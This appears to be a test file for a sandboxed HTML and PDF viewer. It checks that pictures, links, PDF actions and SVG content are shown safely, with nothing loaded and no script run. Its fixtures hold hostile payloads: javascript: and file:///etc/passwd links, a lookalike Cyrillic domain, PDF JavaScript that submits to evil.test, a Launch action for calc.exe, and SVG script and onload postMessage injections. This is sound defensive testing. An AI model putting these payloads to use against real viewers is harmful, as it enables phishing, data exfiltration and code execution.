import { expect, test } from 'vitest'
import { pdfOf } from '../../support/many-pages.ts'
import { ORIGIN, settle, showFile, text, useViewerPage } from '../../support/viewer-page.ts'

useViewerPage()

const PNG = new Uint8Array(
  Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=', 'base64'),
)

test('a page is shown with the pictures that came with it, and a text in place of the others', async () => {
  const { frame, asked } = await showFile({
    type: 'html',
    bytes: text(`<!doctype html><html><body><img src="1.png" alt="one"><img src="/b/1.png#x" alt="the same">
      <picture><source srcset="2.png 1x, big.png 2x"><img src="missing.png" alt="two"></picture>
      <img src="gone.png" alt="Room scan"><img src="https://evil.test/1.png"><img srcset="2.png 2x" alt="three">
      <img src="data:image/png;base64,${Buffer.from(PNG).toString('base64')}" alt="embedded">
      <img src="" data-picture='["https://a.test/b/1.png"]' alt="forged">`),
    snapshot: {
      base: 'https://a.test/b/page.html',
      pictures: ['1.png', '2.png'].map((name) => ({
        address: `https://a.test/b/${name}`,
        bytes: PNG,
        type: 'image/png',
      })),
    },
  })
  const loaded = () =>
    frame
      .locator('article img')
      .evaluateAll((images) =>
        (images as HTMLImageElement[]).filter(({ naturalWidth }) => naturalWidth > 0).map(({ alt }) => alt),
      )
  await expect.poll(loaded).toEqual(['one', 'the same', 'two', 'three', 'embedded'])
  expect(await frame.getByRole('img').evaluateAll((images) => images.map(({ textContent }) => textContent))).toEqual(
    expect.arrayContaining(['Room scan', 'Image not shown', 'forged']),
  )
  expect(asked).toEqual([])
})

const LINKS = `<!doctype html><html><body><a href="https://a.test/x?y#z">plain</a> <a href="/rel">relative</a>
  <a href="https://xn--pple-43d.test:8443/">punycode</a> <a href="https://\u0430pple.test/">cyrillic</a>
  <a href="https://bank.test/\u202egnp.exe">reversed</a> <a href="https://bank.test@evil.test/">named</a>
  <a href="javascript:alert(1)">script</a> <a href="file:///etc/passwd">file</a> <a href="mailto:a@b.test">mail</a>
  <a href="app://desk/">app</a> <a role="link" tabindex="0" data-link="app://desk/">forged</a>`

test('guard: links are told to the page as they are, only by a click or Enter, and lead nowhere by themselves', async () => {
  const { page, frame, asked, said } = await showFile({
    type: 'html',
    bytes: text(LINKS),
    snapshot: { base: 'https://a.test/b/page.html', pictures: [] },
  })
  const links = await frame
    .getByRole('link')
    .evaluateAll((all) => all.map((link) => [link.textContent, (link as HTMLElement).title]))
  expect(links).toEqual([
    ['plain', 'https://a.test/x?y#z'],
    ['relative', 'https://a.test/rel'],
    ['punycode', 'https://xn--pple-43d.test:8443/'],
    ['cyrillic', 'https://xn--pple-43d.test/'],
    ['reversed', 'https://bank.test/%E2%80%AEgnp.exe'],
  ])
  await frame.evaluate(() => {
    for (const link of document.querySelectorAll<HTMLElement>('a')) link.click()
  })
  await settle(page)
  expect(await said('link')).toBeUndefined()
  await frame.getByText('cyrillic').click()
  await expect.poll(() => said('link')).toEqual({ kind: 'link', address: 'https://xn--pple-43d.test/' })
  await frame.getByText('relative').focus()
  await page.keyboard.press('Enter')
  await expect.poll(() => said('link')).toEqual({ kind: 'link', address: 'https://a.test/rel' })
  for (const name of ['named', 'script', 'file', 'mail', 'app', 'forged'])
    await frame.getByText(name, { exact: true }).click()
  await settle(page)
  expect(await said('link')).toEqual({ kind: 'link', address: 'https://a.test/rel' })
  expect(asked).toEqual([])
  expect(frame.url()).toBe(`${ORIGIN}/viewer.html`)
})

test('guard: a PDF with scripts and launch actions does nothing, and its links are told to the page', async () => {
  const annotation = (top: number, action: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [60 ${top - 20} 300 ${top}] /Border [0 0 0] /A << ${action} >> >>`
  const script = `/S /JavaScript /JS (app.alert\\('hacked'\\); this.submitForm\\('https://evil.test/'\\))`
  const { page, frame, asked, said } = await showFile({
    type: 'application/pdf',
    bytes: pdfOf(['Links'], {
      catalog: `/OpenAction << ${script} >> /Names << /JavaScript << /Names [(a) << ${script} >>] >> >> /AA << /WC << ${script} >> >>`,
      page: `/AA << /O << ${script} >> >> /Annots [${[
        annotation(700, '/S /URI /URI (https://a.test/doc)'),
        annotation(600, '/S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe)'),
        annotation(500, script),
        annotation(400, '/S /URI /URI (file:///etc/passwd)'),
        annotation(300, '/S /SubmitForm /F (https://evil.test/submit)'),
        annotation(200, '/S /GoToR /F (https://evil.test/remote.pdf)'),
      ].join(' ')}]`,
    }),
  })
  const links = frame.getByRole('link')
  await links.first().waitFor()
  const addresses = await links.evaluateAll((all) => all.map((link) => (link as HTMLElement).title))
  expect(addresses[0]).toBe('https://a.test/doc')
  expect(addresses.filter((address) => !/^https:\/\/(?:a|evil)\.test\//.test(address))).toEqual([])
  await links.first().click()
  await expect.poll(() => said('link')).toEqual({ kind: 'link', address: 'https://a.test/doc' })
  await settle(page)
  expect(asked).toEqual([])
})

const ESSAY = `<!DOCTYPE html><html lang="en"><head><title>T</title><style>body { color: red }</style>
<link rel="stylesheet" href="https://evil.test/a.css"><script>alert(1)</script></head><body>
<p>Energy: <math xmlns="http://www.w3.org/1998/Math/MathML"><semantics><mrow><mi>E</mi><mo>=</mo><mi>ZMATHML</mi></mrow>
<annotation encoding="application/x-tex">E=tex</annotation></semantics></math> is the formula.</p>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text x="5" y="20" style="fill: red">ZSVGTEXT</text></svg>
<svg xmlns="http://www.w3.org/2000/svg"><style>.a{fill:none}</style><foreignObject><p>ZLABEL</p></foreignObject></svg>
<p><input value="ZINPUT"> <textarea>ZTEXTAREA
  long</textarea> <select><option>no</option><option selected>ZOPTION</option></select> <button>ZBUTTON</button></p>
<p id="boxes"><input type="checkbox" checked> ZCHECKED <input type="radio"> ZRADIO <input type="hidden" value="ZHIDDENFIELD"></p>
<details><summary>ZSUMMARY</summary>ZDETAILS</details><p hidden>ZHIDDEN</p>
<iframe srcdoc="&lt;p&gt;in&lt;/p&gt;"></iframe><object data="x.pdf"><p>ZOBJECT</p></object><video src="https://evil.test/v.mp4"></video>
<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="a drawing"><img src="data:image/tiff;base64,SUkqAA==">
<table><tr><td colspan="2">ZWIDE</td></tr></table><ol start="5"><li>ZFIVE</li></ol><q cite="https://evil.test/">q</q><p id="rtl">שלום (123).</p><ul id="list"><li>אחת</li></ul><p id="ltr">Hello</p></body></html>`

test('guard: what a page holds besides text is shown without loading anything, or named in its place and counted', async () => {
  const { page, frame, asked, said } = await showFile({ type: 'html', bytes: text(ESSAY) })
  await settle(page)
  const article = frame.locator('article')
  const words = [
    'ZMATHML',
    'ZSVGTEXT',
    'ZLABEL',
    'ZTEXTAREA\n  long',
    'ZOPTION',
    'ZBUTTON',
    'ZSUMMARY',
    'ZDETAILS',
    'ZOBJECT',
  ]
  const shown = await article.evaluate((element) => element.textContent)
  for (const word of [...words, 'ZINPUT', 'ZHIDDEN', 'No frame.', 'No object.', 'No media.', 'No drawing. ZLABEL']) {
    expect(shown).toContain(word)
  }
  expect(await frame.getByText('ZHIDDEN').isVisible()).toBe(true)
  expect(await frame.getByText('ZDETAILS').isVisible()).toBe(true)
  expect(shown).not.toMatch(/E=tex|ZHIDDENFIELD|color: red/)
  expect(await frame.getByText('ZCHECKED').textContent()).toMatch(/^☑ +ZCHECKED ○ +ZRADIO/)
  expect(await frame.locator('svg text').getAttribute('fill')).toBe('red')
  expect(await frame.locator('td').getAttribute('colspan')).toBe('2')
  expect(await frame.locator('ol').getAttribute('start')).toBe('5')
  expect(await frame.locator('q').getAttribute('cite')).toBe(null)
  expect(await frame.locator('math mi').count()).toBe(2)
  expect(await frame.locator('.missingPicture').allTextContents()).toEqual(['a drawing', 'Image not shown'])
  const direction = (selector: string) =>
    frame.locator(selector).evaluate((element) => getComputedStyle(element).direction)
  expect(await Promise.all(['#content p >> text=שלום', 'ul', 'ul li', 'text=Hello'].map(direction))).toEqual([
    ...['rtl', 'rtl', 'rtl', 'ltr'],
  ])
  expect((await said('leftOut'))?.parts).toEqual({
    script: 1,
    style: 3,
    frame: 1,
    object: 1,
    media: 1,
    drawing: 1,
    picture: 2,
  })
  expect(asked).toEqual([])
})

test('guard: a drawing that refers to others, moves or holds HTML is not drawn, and none of it loads', async () => {
  const parts = [
    '<image href="https://evil.test/i.png"/>',
    '<use href="https://evil.test/u.svg#a"/>',
    '<rect fill="url(https://evil.test/f.svg#a)" width="9" height="9"/>',
    '<rect style="fill: url(https://evil.test/s.svg#a)" width="9" height="9"/>',
    '<a xlink:href="https://evil.test/"><text y="9">ZLINK</text></a>',
    '<animate attributeName="href" to="https://evil.test/"/>',
    '<script>parent.postMessage("hacked", "*")</script>',
    '<circle r="9" onload="parent.postMessage(\'hacked\', \'*\')"/>',
  ]
  const html = parts.map((part) => `<p><svg width="40" height="20">${part}</svg></p>`).join('')
  const { page, frame, asked, said } = await showFile({ type: 'html', bytes: text(`<!doctype html>${html}`) })
  await settle(page)
  expect(await frame.getByText('No drawing.').count()).toBe(6)
  expect(await frame.locator('svg').count()).toBe(2)
  expect(await frame.locator('svg').evaluateAll((all) => all.map(({ outerHTML }) => outerHTML).join(''))).not.toMatch(
    /evil|onload/,
  )
  expect((await said('leftOut'))?.parts).toMatchObject({ drawing: 6 })
  expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).not.toContain('hacked')
  expect(asked).toEqual([])
})

test('a page of which nothing would be seen is shown as it was written, and any on request', async () => {
  const script = '<!doctype html><title>x</title><script>go("ZSCRIPT")</script>'
  const only = await showFile({ type: 'html', bytes: text(script) })
  expect(await only.frame.locator('pre').textContent()).toBe(script)
  const { frame } = await showFile({ type: 'html', bytes: text(ESSAY), isSource: true, name: 'index.html' })
  expect(await frame.locator('pre').textContent()).toBe(ESSAY)
  expect(await frame.locator('pre').getAttribute('data-language')).toBe('xml')
})
